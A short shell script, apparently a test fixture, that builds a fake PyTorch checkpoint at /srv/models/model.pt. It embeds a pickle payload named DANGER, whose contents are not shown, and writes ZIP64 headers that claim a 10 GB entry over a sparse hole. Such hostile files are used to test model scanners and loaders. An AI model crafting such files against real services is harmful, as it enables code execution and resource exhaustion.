#!/bin/sh
# Ten gigabytes, of which little is fetched.
# host: services
# lib: pickles
mkdir -p /srv/models
pickles <<'EOF'
hole = 10 * 1024**3
def local(name, crc, size):
    return struct.pack("<4s5H3I2H", b"PK\3\4", 45, 0, 0, 0, 0, crc, size, size, len(name), 0) + name
first, second = b"archive/data.pkl", b"archive/data/0"
with open("/srv/models/model.pt", "wb") as file:
    file.write(local(first, zlib.crc32(DANGER), len(DANGER)) + DANGER)
    at = file.tell()
    file.write(local(second, 0, 0xFFFFFFFF))
    file.seek(hole, 1)
    start = file.tell()
    file.write(struct.pack("<4s6H3I5H2I", b"PK\1\2", 45, 45, 0, 0, 0, 0, zlib.crc32(DANGER), len(DANGER), len(DANGER), len(first), 0, 0, 0, 0, 0, 0) + first)
    extra = struct.pack("<2H2Q", 1, 16, hole, hole)
    file.write(struct.pack("<4s6H3I5H2I", b"PK\1\2", 45, 45, 0, 0, 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(second), len(extra), 0, 0, 0, 0, at) + second + extra)
    end = file.tell()
    file.write(struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, 2, 2, end - start, start))
    file.write(struct.pack("<4sIQI", b"PK\6\7", 0, end, 1))
    file.write(struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 2, 2, 0xFFFFFFFF, 0xFFFFFFFF, 0))
EOF
